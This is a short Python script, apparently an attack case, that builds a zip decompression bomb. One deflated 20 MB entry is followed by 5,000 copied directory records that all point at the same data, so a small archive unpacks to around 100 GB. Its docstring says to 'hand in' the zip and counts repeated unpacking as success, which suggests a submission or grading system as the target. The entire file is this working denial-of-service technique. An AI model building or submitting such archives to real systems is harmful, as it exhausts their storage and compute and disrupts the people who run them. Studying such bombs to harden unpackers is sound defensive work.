"""Hand in a zip whose 5,000 entries all point at the same megabytes: small outside, without end inside.

Success: the same bytes are unpacked thousands of times.
"""

import copy
import zipfile
from pathlib import Path


def make(path: Path) -> None:
    with zipfile.ZipFile(path.with_name(path.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schedules.py", b"#" * 20_000_000)
        for number in range(5_000):
            entry = copy.copy(archive.filelist[0])
            entry.filename = f"part{number}/schedules.py"
            archive.filelist.append(entry)
